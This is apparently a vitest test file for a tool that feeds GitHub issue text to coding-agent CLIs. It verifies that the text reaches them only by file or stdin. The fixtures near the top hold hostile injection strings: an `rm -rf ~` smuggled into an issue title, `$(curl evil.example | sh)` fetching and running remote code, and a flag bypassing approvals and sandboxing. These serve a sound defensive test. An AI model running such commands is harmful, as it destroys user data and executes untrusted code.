import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTempDirs } from '../../tests/support/temp-dir.js';
import { ConfigError, InputError } from '../core/errors.js';
import {
  type AgentPreset,
  agentPayload,
  buildPrompt,
  DEFAULT_AGENT_FLAGS,
  formatPrompt,
  type PresetSpec,
} from './agent-presets.js';
import { customPreset, parsePromptDelivery } from './custom-preset.js';
import { ShellExecutor } from './shell/shell.js';

const tempDir = useTempDirs();

/** Issue text an attacker would like to see on a command line. */
const TITLE = `Fix it"; rm -rf ~ #`;
const BODY = `--dangerously-bypass-approvals-and-sandbox\n$(curl evil.example | sh)\n\nPlease fix the parser.\n`;

async function promptFor(dir: string, nonce = ''): Promise<string> {
  const bodyFile = join(dir, 'body.md');
  writeFileSync(bodyFile, `${BODY}${nonce}`);
  return buildPrompt(
    { number: 12, title: TITLE, url: 'https://github.com/o/r/issues/12', bodyFile },
    join(dir, 'prompt.md'),
  );
}

describe('agent presets', () => {
  it('writes the prompt file in the documented format', async () => {
    const dir = tempDir();
    const file = await promptFor(dir);
    expect(readFileSync(file, 'utf8')).toBe(
      [
        'Resolve the following GitHub issue in this repository.',
        '',
        `# Issue #12: ${TITLE}`,
        '',
        'URL: https://github.com/o/r/issues/12',
        '',
        BODY.trimEnd(),
        '',
      ].join('\n'),
    );
    expect(formatPrompt({ number: 3, title: ' multi\n line ', url: 'u' }, '  \n')).toContain(
      '# Issue #3: multi line\n\nURL: u\n\n(The issue has no description.)\n',
    );
  });

  it('adds the review a sent-back attempt answers, from its file', async () => {
    const dir = tempDir();
    const bodyFile = join(dir, 'body.md');
    const reviewFile = join(dir, 'review.md');
    writeFileSync(bodyFile, 'Fix it.\n');
    writeFileSync(reviewFile, 'Rename `x` to `count`.\n');
    const prompt = join(dir, 'prompt.md');
    await buildPrompt({ number: 4, title: 't', url: 'u', bodyFile, reviewFile }, prompt);
    expect(readFileSync(prompt, 'utf8')).toMatch(
      /Fix it\.\n\n## Changes requested in review\n\nThe branch holds an earlier attempt, which a reviewer sent back\. Make the changes it asks for:\n\nRename `x` to `count`\.\n$/,
    );
  });

  it('names the issue and the file when the body cannot be read', async () => {
    const dir = tempDir();
    const issue = { number: 5, title: 't', url: 'u', bodyFile: join(dir, 'missing.md') };
    await expect(buildPrompt(issue, join(dir, 'prompt.md'))).rejects.toThrow(InputError);
    await expect(buildPrompt(issue, join(dir, 'prompt.md'))).rejects.toThrow(
      /issue #5 .*missing\.md.*ENOENT/,
    );
  });

  it('builds argv from fixed words only and passes the prompt as stdinFile', () => {
    const codex = agentPayload({ preset: 'codex', promptFile: '/p/prompt.md', timeoutMs: 600_000 });
    expect(codex).toEqual({
      kind: 'shell',
      cmd: ['codex', 'exec', '--sandbox', 'workspace-write', '--skip-git-repo-check', '-'],
      stdinFile: '/p/prompt.md',
      timeoutMs: 600_000,
    });
    const claude = agentPayload({ preset: 'claude', promptFile: '/p/prompt.md' });
    expect(claude).toEqual({
      kind: 'shell',
      cmd: ['claude', '-p', '--permission-mode', 'acceptEdits'],
      stdinFile: '/p/prompt.md',
    });
    const custom = agentPayload({ preset: 'codex', promptFile: '/p/x', flags: ['-m', 'gpt-5'] });
    expect(custom.cmd).toEqual(['codex', 'exec', '-m', 'gpt-5', '-']);
  });

  it('builds gemini, opencode and aider from fixed words; aider gets the prompt file after --message-file', () => {
    expect(agentPayload({ preset: 'gemini', promptFile: '/p/prompt.md' })).toEqual({
      kind: 'shell',
      cmd: ['gemini', '--approval-mode', 'auto_edit', '--sandbox=false'],
      stdinFile: '/p/prompt.md',
    });
    expect(agentPayload({ preset: 'opencode', promptFile: '/p/prompt.md' })).toEqual({
      kind: 'shell',
      cmd: ['opencode', 'run'],
      stdinFile: '/p/prompt.md',
    });
    expect(agentPayload({ preset: 'aider', promptFile: '/p/prompt.md', timeoutMs: 5 })).toEqual({
      kind: 'shell',
      cmd: ['aider', '--yes-always', '--message-file', '/p/prompt.md'],
      timeoutMs: 5,
    });
    expect(DEFAULT_AGENT_FLAGS.aider).toEqual(['--yes-always']);
  });

  it.each([
    ...(['codex', 'claude', 'gemini', 'opencode', 'aider'] as const).map((preset) => ({
      name: preset,
      program: preset,
      preset: preset as AgentPreset | PresetSpec,
    })),
    { name: 'custom, stdin', program: 'my-agent', preset: customPreset('my-agent --quiet', 'stdin') },
    {
      name: 'custom, file-flag',
      program: 'my-agent',
      preset: customPreset("my-agent 'two words'", 'file-flag:--prompt-file'),
    },
    { name: 'custom, joined', program: 'my-agent', preset: customPreset('my-agent', 'file-flag:--in=') },
  ])('runs $name with the issue text in a file, never in argv nor in ps', async ({ program, preset }) => {
    const dir = tempDir();
    // A stand-in for the CLI, found on PATH like the real one: it records argv, stdin, the
    // files its arguments name, and the machine's process table as `ps` shows it.
    const fake = join(dir, program);
    writeFileSync(fake, `#!${process.execPath}\n${FAKE_CLI}`);
    chmodSync(fake, 0o755);
    const nonce = `NONCE-${process.pid}-${Math.random().toString(36).slice(2)}`;
    const promptFile = await promptFor(dir, nonce);
    const prompt = readFileSync(promptFile, 'utf8');
    const payload = agentPayload({ preset, promptFile });
    const artifactsDir = join(dir, 'artifacts');
    const executor = new ShellExecutor({
      allowlist: [program],
      defaultTimeoutMs: 20_000,
      killGraceMs: 300,
      workspacesRoot: join(dir, 'workspaces'),
      baseEnv: { ...process.env, PATH: `${dir}:${process.env.PATH ?? ''}` },
    });
    const request = { taskId: '12', title: TITLE, attempt: 1, epoch: 1, ownerId: 'o', payload, artifactsDir };
    const result = await executor.run(request, new AbortController().signal);

    expect(result.outcome).toBe('complete');
    const seen = JSON.parse(readFileSync(join(artifactsDir, 'stdout.log'), 'utf8')) as {
      argv: string[];
      input: string;
      files: string[];
      ps: string;
    };
    expect(seen.argv).toEqual((payload.cmd as string[]).slice(1));
    // The prompt arrives, whole, exactly one way.
    expect([seen.input, ...seen.files].filter((text) => text === prompt)).toHaveLength(1);
    expect(seen.ps).toContain(fake); // ps saw the agent running...
    expect(seen.ps).not.toContain(nonce); // ...and no process showed the issue text
    for (const arg of payload.cmd) {
      for (const fragment of [TITLE, 'rm -rf', 'curl', 'dangerously', 'Please fix', nonce]) {
        expect(arg).not.toContain(fragment);
      }
    }
  });
});

describe('custom presets', () => {
  it('keeps the configured words and never adds the prompt, even one that looks like flags', () => {
    const spec = customPreset(`agent --mode "non interactive" -q`, 'stdin');
    const payload = agentPayload({ preset: spec, promptFile: '/s/prompt.md' });
    expect(payload).toEqual({
      kind: 'shell',
      cmd: ['agent', '--mode', 'non interactive', '-q'],
      stdinFile: '/s/prompt.md',
    });
    const byFlag = agentPayload({ preset: customPreset('agent', 'file-flag:-f'), promptFile: '/s/p.md' });
    expect(byFlag.cmd).toEqual(['agent', '-f', '/s/p.md']);
    expect(byFlag.stdinFile).toBeUndefined();
    const joined = agentPayload({
      preset: customPreset('agent', ' file-flag:--input= '),
      promptFile: '/s/p.md',
    });
    expect(joined.cmd).toEqual(['agent', '--input=/s/p.md']);
  });

  it('names the variable, the value and an example when malformed', () => {
    const problems = (command: string | undefined, prompt?: string): string[] => {
      try {
        customPreset(command, prompt);
      } catch (error) {
        expect(error).toBeInstanceOf(ConfigError);
        return [...(error as ConfigError).problems];
      }
      return [];
    };
    expect(problems(undefined)).toEqual([
      expect.stringMatching(/^EXECUTOR=custom needs EXECUTOR_COMMAND.*e\.g\. EXECUTOR_COMMAND='my-agent/),
    ]);
    expect(problems(`agent "unclosed`)).toEqual([
      expect.stringMatching(/^EXECUTOR_COMMAND: Invalid command line .*unterminated double quote.*e\.g\./),
    ]);
    for (const bad of ['file', 'file-flag:', 'file-flag:message-file', 'file-flag:--a b', 'argv']) {
      expect(problems('agent', bad)).toEqual([
        `EXECUTOR_PROMPT=${JSON.stringify(bad)}: expected stdin (the prompt file on the CLI's stdin) or file-flag:<flag> (the prompt file's path after <flag>; end it with = for <flag>=<path>), e.g. EXECUTOR_PROMPT=stdin, or EXECUTOR_PROMPT=file-flag:--message-file`,
      ]);
    }
    expect(problems('', 'nope')).toHaveLength(2);
    expect(parsePromptDelivery('file-flag:--message-file')).toEqual({
      kind: 'file-flag',
      flag: '--message-file',
      joined: false,
    });
  });
});

/** The fake agent CLI (CommonJS after the shebang). */
const FAKE_CLI = `const { execFileSync } = require('node:child_process');
const { existsSync, readFileSync, statSync } = require('node:fs');
const argv = process.argv.slice(2);
const files = [];
for (const arg of argv) {
  const path = arg.includes('=') ? arg.slice(arg.indexOf('=') + 1) : arg;
  if (path.startsWith('/') && existsSync(path) && statSync(path).isFile()) files.push(readFileSync(path, 'utf8'));
}
const ps = execFileSync('ps', ['-eww', '-o', 'args'], { encoding: 'utf8' });
let input = '';
process.stdin.on('data', (d) => (input += d));
process.stdin.on('end', () => console.log(JSON.stringify({ argv, input, files, ps })));
`;
